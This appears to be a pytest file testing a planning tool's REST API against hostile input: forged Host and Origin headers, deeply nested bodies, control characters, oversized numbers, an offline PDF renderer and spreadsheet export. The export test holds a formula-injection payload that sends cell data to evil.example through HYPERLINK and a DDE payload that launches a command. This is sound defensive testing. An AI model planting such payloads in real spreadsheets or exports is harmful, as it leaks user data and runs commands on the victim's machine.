"""Hostile input on the REST API (issue 17): input errors are 422 naming the field, the
server answers only its own host names, a bug is a 500 in the error shape, and the
spreadsheet export never turns a name into a formula."""

from __future__ import annotations

import io
import json
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import APIRouter

from llmplan.api import Settings, create_app
from llmplan.limits import MAX_DATABASE_INT, MAX_NESTING_DEPTH
from test_hostile_cli import shared_alias_profile

with warnings.catch_warnings():  # starlette suggests httpx2; httpx works
    warnings.filterwarnings("ignore", message=".*httpx2")
    from fastapi.testclient import TestClient

LOCAL = "http://localhost"
API = "/api/v1"
PERF = {"model": "meta-llama/Llama-3.1-8B", "gpu": "H100"}


def scenario(**workload: Any) -> dict[str, Any]:
    return {
        "name": "Team chat",
        "workloads": [
            {
                "name": "chat",
                "model": "meta-llama/Llama-3.1-8B-Instruct",
                "requests_per_day": 5000,
                "input_tokens": 800,
                "output_tokens": 200,
                **workload,
            }
        ],
    }


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    app = create_app(Settings(home=tmp_path))
    yield TestClient(app, base_url=LOCAL)
    app.state.llmplan.store.close()


def error(response: Any, status: int = 422) -> dict[str, Any]:
    assert response.status_code == status, response.text
    body: dict[str, Any] = response.json()
    assert set(body) >= {"code", "message", "field"}
    return body


# --- Host and Origin -----------------------------------------------------------------------
def test_a_forged_host_gets_nothing(client: TestClient) -> None:
    """DNS rebinding: a page on evil.example whose name now resolves to 127.0.0.1."""
    response = client.get(f"{API}/scenarios", headers={"Host": "evil.example:8000"})
    assert error(response, 403)["code"] == "forbidden_host"
    for host in ("localhost:8000", "127.0.0.1:8000", "[::1]:8000", "LOCALHOST"):
        assert client.get(f"{API}/scenarios", headers={"Host": host}).status_code == 200


def test_a_cross_site_write_is_refused(client: TestClient) -> None:
    body = {"scenario": scenario()}
    refused = client.post(f"{API}/scenarios", json=body, headers={"Origin": "http://evil.example"})
    assert error(refused, 403)["code"] == "forbidden_host"
    null = client.post(f"{API}/scenarios", json=body, headers={"Origin": "null"})
    assert null.status_code == 403
    same = client.post(f"{API}/scenarios", json=body, headers={"Origin": "http://localhost:8000"})
    assert same.status_code == 201
    assert client.get(f"{API}/scenarios", headers={"Origin": "http://evil.example"}).is_success


def test_allowed_hosts_are_configurable(tmp_path: Path) -> None:
    app = create_app(Settings(home=tmp_path, allowed_hosts=("planner.example.org",)))
    client = TestClient(app, base_url="http://planner.example.org")
    try:
        assert client.get("/health").status_code == 200
        assert client.get("/health", headers={"Host": "localhost"}).status_code == 403
    finally:
        app.state.llmplan.store.close()
    assert Settings.from_env({"LLMPLAN_ALLOWED_HOSTS": "a.example, b.example"}).allowed_hosts[
        -2:
    ] == ("a.example", "b.example")


# --- bodies refused before parsing ---------------------------------------------------------
def test_a_deeply_nested_body_is_422(client: TestClient) -> None:
    deep = '{"scenario": ' + "[" * 5000 + "]" * 5000 + "}"
    response = client.post(
        f"{API}/scenarios", content=deep, headers={"Content-Type": "application/json"}
    )
    assert "nested" in error(response)["message"]


def test_deep_yaml_text_is_422_at_once(client: TestClient) -> None:
    flow = "name: x\nworkloads: " + "[" * 100_000 + "]" * 100_000
    assert "nested" in error(client.post(f"{API}/scenarios", json={"text": flow}))["message"]
    block = "".join(f"{' ' * i}k{i}:\n" for i in range(1000))
    body = error(client.post(f"{API}/scenarios", json={"text": block}))
    assert body["field"] == "text" and f"more than the {MAX_NESTING_DEPTH}" in body["message"]


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x1b", "\x7f"])
def test_control_characters_are_422(client: TestClient, char: str) -> None:
    text = f"name: a{char}b\nworkloads: []\n"
    assert error(client.post(f"{API}/scenarios", json={"text": text}))["code"] == "invalid_input"
    named = client.post(f"{API}/scenarios", json={"scenario": scenario(name=f"x{char}")})
    assert named.status_code == 422
    note = client.post(f"{API}/scenarios", json={"scenario": scenario(), "note": char})
    assert note.status_code == 422
    assert client.get(f"{API}/scenarios", params={"search": f"a{char}"}).status_code == 422


# --- integers the database stores ----------------------------------------------------------
def test_integers_beyond_the_database_are_422(client: TestClient) -> None:
    created = client.post(f"{API}/scenarios", json={"scenario": scenario()}).json()
    big = MAX_DATABASE_INT + 1
    url = f"{API}/scenarios/{created['id']}"
    assert error(client.get(f"{API}/scenarios", params={"offset": big}))["field"] == "offset"
    assert client.get(f"{API}/plans", params={"offset": 2**63}).status_code == 422
    assert client.get(url, params={"version": big}).status_code == 422
    assert client.get(f"{url}/versions/{big}").status_code == 422
    update = {"scenario": scenario(), "expected_version": big}
    assert error(client.put(url, json=update))["field"] == "expected_version"
    headers = {"If-Match": f'"{big}"'}
    assert error(client.put(url, json={"scenario": scenario()}, headers=headers))["field"] == (
        "If-Match"
    )
    assert client.delete(url, headers=headers).status_code == 422
    assert client.post(f"{url}/duplicate", json={"version": big}).status_code == 422
    plan = {"scenario_id": created["id"], "scenario_version": big}
    assert client.post(f"{API}/plans", json=plan).status_code == 422


# --- values that passed validation and crashed in jobs -------------------------------------
@pytest.mark.parametrize(
    ("workload", "field"),
    [
        ({"requests_per_day": 1e308}, "requests_per_day"),
        ({"requests_per_day": 5e-324}, "requests_per_day"),
        ({"hourly_profile": [1e308] * 24}, "hourly_profile"),
    ],
)
def test_extreme_plan_inputs_are_422(
    client: TestClient, workload: dict[str, Any], field: str
) -> None:
    body = error(client.post(f"{API}/plans", json={"scenario": scenario(**workload)}))
    assert field in body["field"]


def test_a_rack_of_no_power_is_422(client: TestClient) -> None:
    data = scenario() | {"finance": {"rack_kw": 5e-324}}
    assert error(client.post(f"{API}/plans", json={"scenario": data}))["field"] == (
        "scenario.finance.rack_kw"
    )


@pytest.mark.parametrize(
    ("arrivals", "field"),
    [
        ({"rate": 5e-324}, "rate"),
        ({"rate": 1, "cv": 5e-324}, "cv"),
        ({"hourly_rates": [1e308] * 24}, "hourly_rates[0]"),
        ({"hourly_rates": [5e-324] * 24}, "hourly_rates[0]"),
        ({"clients": 1_000_000}, "clients"),
    ],
)
def test_extreme_simulation_inputs_are_422(
    client: TestClient, arrivals: dict[str, Any], field: str
) -> None:
    body = error(client.post(f"{API}/simulate", json=PERF | {"requests": 100} | arrivals))
    assert body["field"] == field


# --- a calibration whose engines share an alias --------------------------------------------
@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/memory", {"model": "meta-llama/Llama-3.1-8B", "gpu": "H100"}),
        ("/perf", PERF),
        ("/validate", {}),
        ("/simulate", PERF | {"rate": 1, "requests": 100}),
        ("/plans", {"example": "chat-assistant"}),
    ],
)
def test_a_calibration_sharing_an_alias_is_422(
    client: TestClient, path: str, body: dict[str, Any]
) -> None:
    response = client.post(f"{API}{path}", json=body | {"calibration": shared_alias_profile()})
    found = error(response)
    assert found["code"] == "invalid_input" and found["field"] == "calibration"


# --- the last resort -----------------------------------------------------------------------
def test_a_bug_is_a_500_in_the_error_shape_and_is_not_re_raised(tmp_path: Path) -> None:
    app = create_app(Settings(home=tmp_path))
    router = APIRouter()

    @router.get("/boom")
    def boom() -> None:
        raise ZeroDivisionError("float division by zero")

    app.include_router(router)
    # raise_server_exceptions=True: an exception that escaped to the server (which then
    # resets the client's connection) would be raised here.
    client = TestClient(app, base_url=LOCAL)
    try:
        body = error(client.get("/boom"), 500)
        assert body["code"] == "internal" and "ZeroDivisionError" in body["message"]
        assert client.get("/health").status_code == 200
    finally:
        app.state.llmplan.store.close()


# --- spreadsheet formula injection ---------------------------------------------------------
def test_names_never_become_formulas_in_the_workbook() -> None:
    from openpyxl import load_workbook

    from llmplan.report.xlsx import plan_workbook

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    payload: dict[str, Any] = {
        "scenario": {"name": hostile, "workloads": [{"name": "+1+cmd|' /C calc'!A0"}]},
        "recommended": {"option": hostile},
        "options": [],
    }
    book = load_workbook(io.BytesIO(plan_workbook(payload)))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPER")]
    assert texts and all(c.data_type == "s" for c in texts)
    assert not [c for c in cells if c.data_type == "f" and "HYPERLINK" in str(c.value)]


# --- the PDF renderer stays offline --------------------------------------------------------
@pytest.mark.skipif(
    not Path("/usr/bin/chromium").is_file(), reason="Debian's chromium is not installed"
)
@pytest.mark.parametrize("namespace", [True, False], ids=["namespace", "flags-only"])
def test_the_pdf_renderer_fetches_nothing(monkeypatch: pytest.MonkeyPatch, namespace: bool) -> None:
    """A report that links a page on this machine and one outside: Chromium requests
    neither, with its own network namespace and also with its flags alone."""
    import http.server
    import threading

    from llmplan.report import pdf

    hits: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    if not namespace:
        monkeypatch.setattr(pdf, "network_namespace_prefix", lambda: ())
    html = (
        f'<img src="http://127.0.0.1:{port}/img"><img src="http://localhost:{port}/img2">'
        f'<img src="http://example.com/x.png"><script>fetch("http://127.0.0.1:{port}/js")'
        "</script><p>report</p>"
    )
    try:
        assert pdf.html_to_pdf(html).startswith(b"%PDF")
    finally:
        server.shutdown()
    assert hits == []


def test_characters_yaml_cannot_read_are_422_not_500(client: TestClient) -> None:
    """Found by the fuzzer: C1 controls and lone surrogates made PyYAML's reader raise
    before parsing began."""
    for char in ("\x80", "\x9f", "\ud800"):
        body = {"text": f"name: a{char}\nworkloads: []\n"}
        content = json.dumps(body).encode()  # a lone surrogate as a JSON escape
        response = client.post(
            f"{API}/scenarios", content=content, headers={"Content-Type": "application/json"}
        )
        assert error(response)["field"] == "text"


def test_a_bug_keeps_the_keep_alive_connection(tmp_path: Path) -> None:
    """On a real server: after a 500 the client's connection is still the same one."""
    import socket
    import threading
    import time

    import httpx
    import uvicorn

    app = create_app(Settings(home=tmp_path))
    router = APIRouter()

    @router.get("/boom")
    def boom() -> None:
        raise ZeroDivisionError("float division by zero")

    app.include_router(router)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, log_level="critical", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    seen: list[tuple[int, Any]] = []
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{sock.getsockname()[1]}") as client:
            for path in ("/boom", "/health", "/boom", "/health"):
                response = client.get(path)
                stream = response.extensions["network_stream"]
                seen.append((response.status_code, stream.get_extra_info("client_addr")))
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        app.state.llmplan.store.close()
    assert [status for status, _ in seen] == [500, 200, 500, 200]
    assert len({address for _, address in seen}) == 1  # one connection throughout


def test_a_plan_of_too_many_workloads_is_refused_not_queued(client: TestClient) -> None:
    """The audit's 2,600-workload scenario ran to the job time-out and held the queue."""
    one = scenario()["workloads"][0]
    many = scenario() | {"workloads": [one | {"name": f"w{i}"} for i in range(2600)]}
    body = error(client.post(f"{API}/plans", json={"scenario": many}))
    assert body["field"] == "scenario.workloads"
    assert client.get(f"{API}/jobs").json()["items"] == []


def test_serve_allows_the_bound_address_and_named_hosts(monkeypatch: pytest.MonkeyPatch) -> None:
    from llmplan.cli.serve import _allowed_hosts

    monkeypatch.setenv("LLMPLAN_ALLOWED_HOSTS", "env.example")
    hosts = _allowed_hosts("0.0.0.0", ["planner.example.org"])
    assert hosts[:3] == ("localhost", "127.0.0.1", "::1")
    assert "0.0.0.0" not in hosts and {"planner.example.org", "env.example"} <= set(hosts)
    assert "10.1.2.3" in _allowed_hosts("10.1.2.3", [])


def test_a_monte_carlo_run_too_large_is_422(client: TestClient) -> None:
    one = scenario()["workloads"][0]
    twenty = scenario() | {"workloads": [one | {"name": f"w{i}"} for i in range(20)]}
    body = error(client.post(f"{API}/plans", json={"scenario": twenty, "samples": 10_000}))
    assert body["field"] == "samples" and "at most 5,000 draws" in body["message"]
